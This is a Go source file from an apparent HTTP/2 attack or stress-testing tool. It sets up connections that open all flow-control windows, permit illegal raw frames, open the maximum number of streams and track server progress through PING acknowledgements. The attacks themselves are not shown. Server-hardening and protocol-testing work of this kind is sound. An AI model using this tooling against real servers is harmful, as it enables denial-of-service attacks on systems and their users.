package h2attack

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	markEvery = 32  // units of an attack between two PINGs, after the first of them
	runAhead  = 512 // units that may wait for an acknowledgement
	breath    = time.Millisecond
)

// declared is the content-length of the requests that have one.
const declared = 1 << 10

// A conn is one of an attack's connections. One goroutine writes, another reads.
type conn struct {
	net.Conn
	out    *bufio.Writer
	framer *http2.Framer // writes to out
	target Target
	heard  *heard

	get, large, post, counted []byte // field sections of requests; counted is post with a content-length

	id    uint32 // of the stream opened last
	first uint32 // of the stream that the attack's first unit opens
	sent  int    // units
	began time.Time
	broke time.Time // when the first unit beyond the budget had been sent
	deaf  bool      // PING is not acknowledged in time
}

// connect opens a connection for an attack: with the preface and SETTINGS exchanged, unless it is the attack to do without.
func (t Target) connect(ctx context.Context, a *Attack, from netip.Addr) (*conn, error) {
	raw, err := t.dial(ctx, from)
	if err != nil {
		return nil, err
	}
	if t.Host == "" {
		t.Host = t.Address
	}
	c := &conn{Conn: raw, out: bufio.NewWriterSize(raw, 16<<10), target: t, heard: newHeard(a.slow())}
	c.framer = http2.NewFramer(c.out, nil)
	c.framer.AllowIllegalWrites = true
	c.get, c.large, c.post = t.request("GET", t.Small), t.request("GET", t.Large), t.request("POST", t.Sink)
	c.counted = t.request("POST", t.Sink, hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(declared)})
	reader := http2.NewFramer(nil, bufio.NewReaderSize(raw, 64<<10))
	if !a.mute {
		if err := c.greet(reader, a.settings); err != nil {
			raw.Close()
			return nil, fmt.Errorf("begin HTTP/2: %w", err)
		}
	}
	c.SetDeadline(time.Time{})
	if !a.unread {
		go c.heard.listen(reader, c.release)
	}
	c.heard.reader = reader
	return c, nil
}

// release frees a write that the server lets wait, once there is nothing more to say.
func (c *conn) release() { c.SetWriteDeadline(time.Unix(1, 0)) }

// greet says the preface, and SETTINGS that open every window wide unless others are given, and waits for the server's.
func (c *conn) greet(reader *http2.Framer, settings []http2.Setting) error {
	if settings == nil {
		settings = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	}
	c.out.WriteString(http2.ClientPreface) //nolint:errcheck // Flush says it
	if err := c.framer.WriteSettings(settings...); err != nil {
		return err
	}
	if err := c.framer.WriteWindowUpdate(0, 1<<30); err != nil {
		return err
	}
	if err := c.out.Flush(); err != nil {
		return err
	}
	f, err := reader.ReadFrame()
	if err != nil {
		return err
	}
	if s, ok := f.(*http2.SettingsFrame); !ok || s.IsAck() {
		return fmt.Errorf("the first frame is %v: want SETTINGS", f.Header().Type)
	}
	return c.framer.WriteSettingsAck()
}

// request is the field section of a request, which leaves the server's dynamic table alone.
func (t Target) request(method, path string, more ...hpack.HeaderField) []byte {
	scheme := "http"
	if t.TLS {
		scheme = "https"
	}
	fields := append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: scheme}, {Name: ":authority", Value: t.Host}, {Name: ":path", Value: path},
	}, more...)
	var section bytes.Buffer
	e := hpack.NewEncoder(&section)
	for _, f := range fields {
		f.Sensitive = true
		e.WriteField(f) //nolint:errcheck // a buffer takes all
	}
	return section.Bytes()
}

// open opens a stream with a field section.
func (c *conn) open(section []byte, end bool) error {
	c.next()
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id, BlockFragment: section, EndStream: end, EndHeaders: true})
}

// next chooses the next stream.
func (c *conn) next() {
	if c.id == 0 {
		c.id = 1
	} else {
		c.id += 2
	}
	c.heard.opened(c.id)
}

// openAll opens as many streams as every server lets a client have. They are not the attack itself, but what it needs.
func (c *conn) openAll(section []byte, end bool) error {
	for range streamsEach {
		if err := c.open(section, end); err != nil {
			return err
		}
	}
	return nil
}

// raw writes a frame whatever its payload.
func (c *conn) raw(t http2.FrameType, flags http2.Flags, id uint32, payload []byte) error {
	return c.framer.WriteRawFrame(t, flags, id, payload)
}

// mark sends what is buffered, and learns how far the server has come; it waits if that is too far behind.
func (c *conn) mark(a *Attack) error {
	if a.unread || a.section {
		if err := c.flush(a); err != nil || a.unread {
			return err
		}
		c.heard.wait(breath, func() bool { return false })
		return nil
	}
	if err := c.ping(c.sent); err != nil {
		return err
	}
	if err := c.out.Flush(); err != nil {
		return err
	}
	if !c.deaf && !c.heard.wait(prompt, func() bool { return c.sent-c.heard.acked <= runAhead }) {
		c.deaf = !c.heard.over()
	}
	return nil
}

func (c *conn) ping(number int) error {
	var data [8]byte
	binary.BigEndian.PutUint64(data[:], uint64(number))
	return c.framer.WritePing(false, data)
}

// taken is how many of its units the server has read as far as one can know: all that came before an acknowledged PING, and those
// whose streams its GOAWAY counts among the ones that it may have acted on.
func (c *conn) taken(a *Attack) int {
	h := c.heard
	h.mu.Lock()
	defer h.mu.Unlock()
	n := h.acked
	if a.section || a.slow() || a.unread && n == 0 {
		return c.sent
	}
	if a.streams && h.goAway && h.last >= c.first && h.last <= c.id {
		n = max(n, int(h.last-c.first)/2+1)
	}
	return n
}
